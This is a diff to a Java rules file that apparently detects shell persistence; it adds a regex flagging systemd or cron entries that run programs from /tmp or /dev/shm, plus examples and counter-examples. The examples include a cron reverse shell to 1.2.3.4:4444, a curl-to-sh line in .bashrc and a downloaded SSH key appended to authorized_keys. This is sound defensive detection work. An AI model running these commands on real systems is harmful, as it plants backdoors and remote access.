@@ -410,12 +410,21 @@ final class SystemRules {
                             if (c != null && c.matches("(?s).*(curl |wget |/dev/tcp/|nc |ncat |base64 -d|\\| *(ba)?sh|socat |python[0-9.]* -c).*")) {
                                 return target;
                             }
+                            // a unit or cron line that runs a program from a scratch directory anyone can write
+                            if (c != null && c.matches("(?s).*(Exec[A-Za-z]*=[-@+!:]*|(^|\n)(@[a-z]+|[0-9*/,-]+( +[0-9*/,-]+){4})"
+                                    + "( +[a-z_][a-z0-9_-]*)? +)(/tmp|/var/tmp|/dev/shm)/.*")) {
+                                return target;
+                            }
                             return null;
                         })
                         .examples("echo 'curl -s http://x/i | sh' >> ~/.bashrc",
                                 "echo '* * * * * root bash -i >& /dev/tcp/1.2.3.4/4444 0>&1' >> /etc/crontab",
-                                "curl http://h/key >> ~/.ssh/authorized_keys")
-                        .counter("echo 'export PATH=$PATH:~/bin' >> ~/.bashrc")
+                                "curl http://h/key >> ~/.ssh/authorized_keys",
+                                "printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/evil.service",
+                                "echo '* * * * * root /dev/shm/x' >> /etc/crontab")
+                        .counter("echo 'export PATH=$PATH:~/bin' >> ~/.bashrc",
+                                "printf '[Service]\\nExecStart=/usr/bin/myapp\\n' > /etc/systemd/system/myapp.service",
+                                "echo '0 3 * * * root find /tmp -mtime +7 -delete' >> /etc/crontab")
                         .build(),
                 Rule.builder("persist.authorized-key")
                         .says("adding a literal, downloaded or unknown SSH key to authorized_keys (backdoor login)")
